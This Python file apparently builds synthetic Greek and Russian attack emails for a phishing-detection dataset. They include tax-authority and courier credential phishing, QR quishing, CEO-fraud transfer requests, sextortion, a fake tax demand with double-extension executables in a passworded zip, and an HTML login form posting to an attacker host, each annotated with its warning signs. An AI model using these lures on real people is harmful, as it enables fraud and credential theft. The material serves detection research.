"""Attack messages: Greek (32-36) and Russian (37-40)."""
import base64

import banking as bk
import docs
import qr
import zips
from company import *
from infra import exim_cpanel, gmail, mailru, otenet, sendgrid, spoofed_bot, vps_postfix, yandex
from message import alt, att, compose, gmail_alt, mixed, plain2html_simple, related
from mime import Multi, Text
from util import hexs, rng, utc

F = "attack"


def _b64(s):
    return base64.urlsafe_b64encode(s.encode()).decode().rstrip("=")


def a32():
    r = rng("a32")
    url = "https://mydata-aade.gov-gr.info/taxisnet/login?ref=%s&afm=%s" % (hexs(r, 10), EXAMPLE_GR_AFM)
    plain = """ΑΝΕΞΑΡΤΗΤΗ ΑΡΧΗ ΔΗΜΟΣΙΩΝ ΕΣΟΔΩΝ
Ηλεκτρονικά Βιβλία – myDATA

Αξιότιμε/η επιτηδευματία,

Από τη διασταύρωση των διαβιβασμένων παραστατικών για την επιχείρηση με ΑΦΜ %s (EXAMPLE HELLAS ΜΟΝΟΠΡΟΣΩΠΗ ΕΠΕ) εντοπίστηκαν αποκλίσεις μεταξύ εκδότη και λήπτη σε 14 παραστατικά της περιόδου 07/2026–09/2026.

Παρακαλούμε να συνδεθείτε με τους κωδικούς TAXISnet και να επιβεβαιώσετε ή να διορθώσετε τους χαρακτηρισμούς έως τις 27/11/2026. Μετά την προθεσμία θα επιβληθούν αυτοτελώς τα προβλεπόμενα πρόστιμα.

Σύνδεση: %s

Με εκτίμηση,
Γενική Διεύθυνση Ηλεκτρονικής Διακυβέρνησης
Α.Α.Δ.Ε.
""" % (EXAMPLE_GR_AFM, url)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">'
            '<table width="600" align="center" style="border:1px solid #d0d7de"><tr><td style="background:#003476;color:#fff;padding:16px 20px"><b style="font-size:18px">ΑΑΔΕ</b> &nbsp; Ανεξάρτητη Αρχή Δημοσίων Εσόδων<br><span style="font-size:12px">Ηλεκτρονικά Βιβλία – myDATA</span></td></tr>'
            '<tr><td style="padding:20px"><p>Αξιότιμε/η επιτηδευματία,</p><p>Από τη διασταύρωση των διαβιβασμένων παραστατικών για την επιχείρηση με ΑΦΜ <b>%s</b> (EXAMPLE HELLAS ΜΟΝΟΠΡΟΣΩΠΗ ΕΠΕ) εντοπίστηκαν '
            'αποκλίσεις μεταξύ εκδότη και λήπτη σε <b>14 παραστατικά</b> της περιόδου 07/2026–09/2026.</p>'
            '<p>Παρακαλούμε να συνδεθείτε με τους κωδικούς TAXISnet και να επιβεβαιώσετε ή να διορθώσετε τους χαρακτηρισμούς έως τις <b>27/11/2026</b>. Μετά την προθεσμία θα επιβληθούν αυτοτελώς τα προβλεπόμενα πρόστιμα.</p>'
            '<p style="text-align:center"><a href="%s" style="background:#003476;color:#fff;padding:11px 26px;text-decoration:none">Σύνδεση με κωδικούς TAXISnet</a></p>'
            '<p>Με εκτίμηση,<br>Γενική Διεύθυνση Ηλεκτρονικής Διακυβέρνησης<br>Α.Α.Δ.Ε.</p></td></tr></table></body></html>\n' % (EXAMPLE_GR_AFM, url))
    compose(F, 32, "el", "aade-mydata-apokliseis-taxisnet-phishing", sendgrid, utc(2026, 11, 18, 7, 48),
            GR_ACC.addr, ("ΑΑΔΕ - myDATA", "noreply@aade-mydata.info"), [GR_ACC.t],
            "Ειδοποίηση: Αποκλίσεις στη διαβίβαση παραστατικών myDATA – προθεσμία 27/11/2026",
            lambda B: alt(B, 0, plain, html, "utf-8", "base64"), hcs="utf-8", henc="B",
            pkw=dict(bdom="em7712.aade-mydata.info"),
            what="Tax-authority (AADE myDATA) credential phishing",
            why="AADE does not send login links from a .info domain via SendGrid; page gov-gr.info harvests TAXISnet credentials; uses the company's real ΑΦΜ (public) and fine threat. The accountant handles myDATA (business/32).")


def a33():
    r = rng("a33")
    url = "https://elta-courier.gr-delivery.net/t/%s" % hexs(r, 8)
    png = qr.qr_png(url, scale=5)
    plain = """ΕΛΤΑ Courier

Η αποστολή σας ΕΛ 0428 3316 5GR έχει παρακρατηθεί στο Τελωνείο Θεσσαλονίκης.

Για την αποδέσμευση απαιτείται η καταβολή τελωνειακών τελών ύψους 1,86 €.

Σαρώστε τον κωδικό QR με το κινητό σας για να ολοκληρώσετε την πληρωμή. Εάν δεν γίνει πληρωμή εντός 72 ωρών, η αποστολή θα επιστραφεί στον αποστολέα.

ΕΛΤΑ Courier Α.Ε.
"""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1253"></head><body style="font-family:Tahoma,Arial,sans-serif">'
            '<table width="560" align="center" style="border:1px solid #ccc"><tr><td style="background:#ffd400;color:#0d2d6b;padding:14px;font-size:22px;font-weight:bold">ΕΛΤΑ Courier</td></tr>'
            '<tr><td style="padding:20px;font-size:14px"><p>Η αποστολή σας <b>ΕΛ 0428 3316 5GR</b> έχει παρακρατηθεί στο Τελωνείο Θεσσαλονίκης.</p>'
            '<p>Για την αποδέσμευση απαιτείται η καταβολή τελωνειακών τελών ύψους <b>1,86 €</b>.</p>'
            '<p style="text-align:center"><img src="cid:qr-elta" width="185" height="185" alt="QR"></p>'
            '<p>Σαρώστε τον κωδικό QR με το κινητό σας για να ολοκληρώσετε την πληρωμή. Εάν δεν γίνει πληρωμή εντός 72 ωρών, η αποστολή θα επιστραφεί στον αποστολέα.</p>'
            '<p style="font-size:11px;color:#777">ΕΛΤΑ Courier Α.Ε.</p></td></tr></table></body></html>\n')
    compose(F, 33, "el", "elta-courier-telonio-qr-quishing", exim_cpanel, utc(2026, 10, 22, 10, 29),
            GR_MGR.addr, ("ΕΛΤΑ Courier", "info@kavalabeachrooms.gr"), [GR_MGR.t],
            "Η αποστολή σας ΕΛ 0428 3316 5GR έχει παρακρατηθεί στο τελωνείο",
            lambda B: Multi("alternative", [Text(plain, "plain", "windows-1253", "quoted-printable"),
                                            related(B, 1, Text(html, "html", "windows-1253", "quoted-printable"),
                                                    att(png, "image/png", "qr.png", disp="inline", cid="qr-elta"))], B(0)),
            hcs="windows-1253", henc="B",
            pkw=dict(host="gr-web14.grserver.gr", ip="91.138.171.%d" % 14, php="wp-content/plugins/wpforms-lite/src/Emails/templates/send.php",
                     user="kavalabr", site="kavalabeachrooms.gr", zone="EET", szone="EET"),
            what="Courier/customs quishing in Greek (fake ELTA Courier)",
            why="'ELTA Courier' from a hacked guest-house website via PHPMailer, QR-only payment link to gr-delivery.net, tiny fee and return threat - card phishing.",
            meta=dict(has_qr=True))


def a34():
    text = """Ελένη καλημέρα,

είμαι σε σύσκεψη με τον κ. Köhler και τους δικηγόρους και δεν μπορώ να μιλήσω στο τηλέφωνο. Σου γράφω από το προσωπικό μου γιατί στο laptop δεν έχω σήμα.

Χρειάζομαι να γίνει σήμερα μια πληρωμή προκαταβολής 18.750,00 € σε νέο προμηθευτή υφασμάτων για την παραγγελία του Δήμου (έχει εγκριθεί από τη Γερμανία). Τα στοιχεία:

Δικαιούχος: Nordtex Trading Ltd
IBAN: %s
BIC: TRWIBEB1XXX
Αιτιολογία: Advance PO 2026-118

Μην το καταχωρίσεις ακόμα στην καρτέλα προμηθευτών, θα φέρω αύριο τη σύμβαση. Στείλε μου το αποδεικτικό μόλις γίνει.

Ευχαριστώ,
Νίκος
""" % bk.fmt_iban(GR_FAKE_IBAN)
    compose(F, 34, "el", "plastoprosopia-diefthynti-pliromi-gmail", gmail, utc(2026, 11, 11, 9, 14),
            GR_ACC.addr, (GR_MGR.native, "n.papadopoulos.exg@gmail.com"), [GR_ACC.t], "Επείγον – πληρωμή σήμερα",
            lambda B: gmail_alt(B, 0, text), pkw=dict(zone="EET"),
            what="Manager impersonation (BEC) asking the Greek accountant for an urgent transfer",
            why="Manager's Greek display name on a Gmail address, 'in a meeting, can't call', new supplier abroad (Wise account in Belgium), asks to bypass vendor master data, wants proof of payment.")


def a35():
    post = "https://office-docs-viewer.azurewebsites-cdn.com/xls/auth.php"
    page = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Excel Online - Τιμολόγιο_ΚΔ_1147.xlsx</title>\n'
            '<style>body{margin:0;font-family:Segoe UI,Arial,sans-serif;background:#217346}.m{width:360px;margin:70px auto;background:#fff;padding:30px}'
            'input{width:100%%;margin:8px 0;padding:8px;border:1px solid #aaa}button{width:100%%;background:#217346;color:#fff;border:0;padding:10px}</style></head>\n'
            '<body><div class="m"><h2 style="color:#217346">Excel Online</h2>'
            '<p>Το έγγραφο <b>Τιμολόγιο_ΚΔ_1147.xlsx</b> είναι κοινοποιημένο μέσω OneDrive. Επιβεβαιώστε το email σας για προβολή.</p>\n'
            '<form method="post" action="%s"><input type="email" name="email" value="%s">'
            '<input type="password" name="pass" placeholder="Κωδικός πρόσβασης email"><button type="submit">Προβολή εγγράφου</button></form>'
            '</div></body></html>\n' % (post, GR_ACC.addr))
    text = """Καλησπέρα,

σας στέλνω το τιμολόγιο των κεντημάτων Νοεμβρίου. Είναι στο συνημμένο αρχείο, ανοίξτε το για να το δείτε.

Ευχαριστώ
Κώστας Δημητρίου
"""
    compose(F, 35, "el", "paraviasmeno-otenet-html-synimmeno", otenet, utc(2026, 12, 2, 17, 41),
            GR_ACC.addr, ("Κώστας Δημητρίου", "kdimitriou@otenet.gr"), [GR_ACC.t], "Τιμολόγιο κεντημάτων Νοεμβρίου",
            lambda B: mixed(B, 1, Text(text, "plain", "iso-8859-7", "quoted-printable"),
                            att(page.encode("utf-8"), "text/html", "Τιμολόγιο_ΚΔ_1147.html", charset="utf-8")),
            hcs="iso-8859-7", henc="B", pkw=dict(mua="tb"),
            what="Credential phishing from the embroiderer's genuinely compromised otenet.gr mailbox",
            why="Genuine ISP infrastructure and sender, but an HTML 'Excel Online' page instead of his usual PDF (business/35), asks for the mailbox password and posts it to an attacker host; formal 'σας' tone unlike his usual first-name style.")


def a36():
    addr = bk.btc_addresses("a36-example")["p2pkh"]
    text = """Γεια σου,

έχω πρόσβαση στη συσκευή σου εδώ και μερικούς μήνες. Εγκατέστησα ένα πρόγραμμα όταν επισκέφθηκες έναν ιστότοπο για ενήλικες και από τότε βλέπω ό,τι κάνεις.

Σου έστειλα αυτό το μήνυμα από τον ΔΙΚΟ ΣΟΥ λογαριασμό (%s).

Έχω καταγράψει βίντεο από την κάμερά σου και έχω αντίγραφο όλων των επαφών σου. Αν δεν θέλεις να το στείλω σε συναδέλφους, φίλους και οικογένεια, μετάφερε 1.300 € σε Bitcoin στη διεύθυνση:

%s

Έχεις 48 ώρες από τη στιγμή που θα ανοίξεις αυτό το email. Μην απαντήσεις και μην πας στην αστυνομία – θα το μάθω αμέσως.
""" % (GR_MGR.addr, addr)
    compose(F, 36, "el", "sextortion-bitcoin-base58-plastos-apostoleas", spoofed_bot, utc(2026, 11, 28, 23, 52),
            GR_MGR.addr, ("", GR_MGR.addr), [GR_MGR.t], "Ο λογαριασμός σου έχει παραβιαστεί",
            lambda B: Text(text, "plain", "windows-1253", "8bit"), hcs="windows-1253", henc="B",
            pkw=dict(ip="177.37.201.%d" % 64, helo="177-37-201-64.dynamic.desktop.com.br",
                     rdns="177-37-201-64.dynamic.desktop.com.br", zone="BRT", rp="nobody@177-37-201-64.dynamic.desktop.com.br",
                     extra=[("X-Mailer", "Microsoft Outlook Express 6.00.2900.5931")]),
            what="Greek sextortion with forged own address and legacy Bitcoin address",
            why="From = recipient, delivered directly by a Brazilian residential host without TLS and with an unrelated envelope sender, fake 'Outlook Express' mailer, generic threat, BTC base58 address.")


# ------------------------------------------------------------------ Russian
def a37():
    pw = "1883"
    z = zips.make_zip([("Требование_12-07_18834.pdf.exe", docs.PLACEHOLDER),
                       ("Перечень_документов.doc.scr", docs.PLACEHOLDER)], password=pw,
                      when=(2026, 12, 9, 9, 17, 2), seed="a37")
    text = """Уважаемый налогоплательщик!

В соответствии со статьёй 93.1 Налогового кодекса Российской Федерации Межрайонная ИФНС России № 5 по Ивановской области направляет Требование о представлении документов (информации) № 12-07/18834 от 09.12.2026 в рамках мероприятий налогового контроля в отношении контрагента ООО «ИвТекс» (ИНН %s).

Документы необходимо представить в течение 5 (пяти) рабочих дней со дня получения настоящего требования. Непредставление документов в установленный срок влечёт ответственность по ст. 126 и 129.1 НК РФ.

Требование и перечень запрашиваемых документов направлены во вложении. В целях защиты персональных данных архив защищён паролем: %s

Государственный налоговый инспектор
отдела выездных проверок
Смирнов А. В.
тел. 8 (4932) 30-77-41
""" % (IVTEX_INN, pw)
    compose(F, 37, "ru", "trebovanie-fns-arhiv-s-parolem-mailru", mailru, utc(2026, 12, 9, 6, 20),
            RU_ACC.addr, ("Межрайонная ИФНС России № 5 по Ивановской области", "ifns3702.trebovanie@mail.ru"), [RU_ACC.t],
            "Требование о представлении документов № 12-07/18834 от 09.12.2026",
            lambda B: mixed(B, 1, Text(text, "plain", "windows-1251", "base64"),
                            att(z, "application/zip", "Требование_12-07_18834.zip", ncs="windows-1251")),
            hcs="windows-1251", henc="B",
            what="Fake Russian tax-office demand with a password-protected archive of executables",
            why="Tax demands arrive via the EDI operator (ТКС), not from a mail.ru mailbox; ZipCrypto archive with .pdf.exe/.doc.scr double extensions, password in body, legal threats (ст. 126 НК РФ). business/40 shows the real channel.",
            meta=dict(zip_pw=pw))


def a38():
    r = rng("a38")
    url = "https://diadoc-kontur.online/auth/?ReturnUrl=%%2Fdocument%%2F%s&login=%s" % (hexs(r, 16), RU_ACC.addr)
    plain = """Контур.Диадок

Вам поступил документ на подпись

Отправитель: ООО «ИвТекс», ИНН %s
Документ: УПД № 1284 от 20.11.2026
Сумма: 1 306 512,00 руб., в т.ч. НДС

Документ необходимо подписать до 25.11.2026. Неподписанные документы автоматически отклоняются.

Перейти к документу: %s

С уважением,
команда Контур.Диадок
""" % (IVTEX_INN, url)
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=koi8-r"></head><body style="font-family:Arial,sans-serif;font-size:14px">'
            '<table width="600" align="center"><tr><td style="padding:14px 0;border-bottom:2px solid #1b8acd;font-size:20px;color:#1b8acd"><b>Контур.Диадок</b></td></tr>'
            '<tr><td style="padding:18px 0"><p style="font-size:18px">Вам поступил документ на подпись</p>'
            '<p>Отправитель: <b>ООО «ИвТекс»</b>, ИНН %s<br>Документ: УПД № 1284 от 20.11.2026<br>Сумма: 1 306 512,00 руб., в т.ч. НДС</p>'
            '<p>Документ необходимо подписать до 25.11.2026. Неподписанные документы автоматически отклоняются.</p>'
            '<p><a href="%s" style="background:#1b8acd;color:#fff;padding:10px 24px;text-decoration:none">Перейти к документу</a></p>'
            '<p style="color:#777;font-size:12px">С уважением, команда Контур.Диадок</p></td></tr></table></body></html>\n' % (IVTEX_INN, url))
    compose(F, 38, "ru", "kontur-diadok-dokument-na-podpis-phishing", vps_postfix, utc(2026, 11, 23, 8, 3),
            RU_ACC.addr, ("Контур.Диадок", "noreply@diadoc-kontur.online"), [RU_ACC.t],
            "ООО «ИвТекс» отправил вам документ на подпись: УПД № 1284",
            lambda B: alt(B, 0, plain, html, "koi8-r", "quoted-printable"), hcs="koi8-r", henc="B",
            pkw=dict(host="mail.diadoc-kontur.online", ip="92.255.108.%d" % 77, rdns="92-255-108-77.cloudvps.regruhosting.ru",
                     zone="MSK", webmail=False, mua="tb", lang="ru", tls="1.2", cip="5.255.%d.%d" % (98, 17)),
            what="Fake Kontur.Diadok (Russian EDI) notification leading to a credential page",
            why="diadoc-kontur.online is not kontur.ru; Reg.ru cloud VPS; real supplier name and plausible УПД used as lure; auto-reject pressure; link harvests Diadok/Kontur credentials.")


def a39():
    letter = docs.letter_pdf([
        ("ООО «ИвТекс»", 14, True), ("153002, г. Иваново, ул. 8 Марта, д. 32 · ИНН %s · КПП %s" % (IVTEX_INN, IVTEX_KPP), 8, False), "",
        "Исх. № 214 от 30.11.2026", "", ("Информационное письмо об изменении банковских реквизитов", 12, True), "",
        "Уважаемые партнёры!", "",
        "Сообщаем, что с 01.12.2026 расчёты с ООО «ИвТекс» осуществляются по следующим реквизитам:", "",
        "р/с %s" % FAKE_RU_ACC, "в ООО «Банк Точка»", "БИК %s, к/с %s" % (FAKE_RU_BIK, FAKE_RU_CORR), "",
        "Прежний счёт в ПАО Сбербанк закрывается. Платежи, поступившие на старые реквизиты,",
        "будут возвращены отправителю.", "",
        "Генеральный директор ______________ Лебедев О. Н.", "Главный бухгалтер ______________ Фролова Т. С."],
        title="Письмо о смене реквизитов", author="user", producer="Microsoft® Word 2016", creator="Microsoft® Word 2016")
    text = """Добрый день, Ольга Викторовна!

Направляем информационное письмо об изменении банковских реквизитов ООО «ИвТекс» (во вложении). В связи с переходом на обслуживание в банк «Точка» счёт в Сбербанке с 01.12 закрывается.

Просим оплату по счёту № 1388 от 17.11.2026 произвести уже по новым реквизитам:
р/с %s
ООО «Банк Точка», БИК %s, к/с %s

Просьба подтвердить получение письма ответом на это сообщение. По телефону офиса до конца недели дозвониться сложно - у нас переезд АТС.

С уважением,
Ирина Смирнова
менеджер по работе с клиентами
ООО «ИвТекс», г. Иваново
""" % (FAKE_RU_ACC, FAKE_RU_BIK, FAKE_RU_CORR)
    compose(F, 39, "ru", "ivtex-smena-rekvizitov-domen-dvoynik", yandex, utc(2026, 11, 30, 7, 31),
            RU_ACC.addr, ("Ирина Смирнова", "i.smirnova@ivtex-tekstil.ru"), [RU_ACC.t],
            "Изменение банковских реквизитов ООО «ИвТекс»",
            lambda B: mixed(B, 1, Text(text, "plain", "windows-1251", "quoted-printable"),
                            att(letter, "application/pdf", "Письмо_о_смене_реквизитов.pdf", ncs="windows-1251")),
            cc=[RU_MGR.t], hcs="windows-1251", henc="B", pkw=dict(cip="185.244.%d.%d" % (214, 9)),
            what="Supplier bank-detail change from look-alike ivtex-tekstil.ru (Yandex 360)",
            why="Same Yandex 360 infrastructure as the genuine ivtex.ru but a look-alike domain; references the real invoice 1388 (business/37); new account in a Moscow bank for an Ivanovo firm, phone verification discouraged, unsigned letter.")


def a40():
    r = rng("a40")
    url = "https://yandex-disk-share.ru/d/%s?login=%s" % (hexs(r, 14), _b64(RU_MGR.addr))
    plain = """Яндекс Диск

Сергей Волков открыл вам доступ к папке «ТТН и акты ноябрь 2026»

В папке 7 файлов (14,2 МБ).

Открыть папку: %s

Чтобы просмотреть файлы, войдите с помощью Яндекс ID.

Это письмо отправлено автоматически.
© 2026 ООО «Яндекс»
""" % url
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body style="font-family:Arial,sans-serif;font-size:15px;color:#000">'
            '<table width="600" align="center"><tr><td style="padding:18px 0;font-size:22px"><b>Яндекс Диск</b></td></tr>'
            '<tr><td><p><b>Сергей Волков</b> открыл вам доступ к папке <b>«ТТН и акты ноябрь 2026»</b></p><p style="color:#777">В папке 7 файлов (14,2 МБ).</p>'
            '<p><a href="%s" style="background:#ffdb4d;color:#000;padding:12px 26px;text-decoration:none;border-radius:8px">Открыть папку</a></p>'
            '<p style="font-size:12px;color:#999">Чтобы просмотреть файлы, войдите с помощью Яндекс ID.<br>Это письмо отправлено автоматически. &copy; 2026 ООО «Яндекс»</p></td></tr></table></body></html>\n' % url)
    compose(F, 40, "ru", "yandex-disk-dostup-k-papke-phishing", exim_cpanel, utc(2026, 12, 3, 12, 36),
            RU_MGR.addr, ("Яндекс Диск", "disk-noreply@yandex-disk-share.ru"), [RU_MGR.t],
            "Сергей Волков открыл вам доступ к папке «ТТН и акты ноябрь 2026»",
            lambda B: alt(B, 0, plain, html, "utf-8", "base64"),
            pkw=dict(host="vh312.sweb.ru", ip="77.222.40.%d" % 112, php="administrator/components/com_media/mailer_cron.php",
                     user="yandexds", site="yandex-disk-share.ru", zone="MSK", szone="MSK"),
            what="Fake Yandex Disk share notification using the real carrier's name",
            why="Not from Yandex (shared-hosting PHP mailer, look-alike yandex-disk-share.ru); personalised with the carrier who really sends TTNs (business/38); link to a Yandex ID credential page.")


def build():
    for f in (a32, a33, a34, a35, a36, a37, a38, a39, a40):
        f()
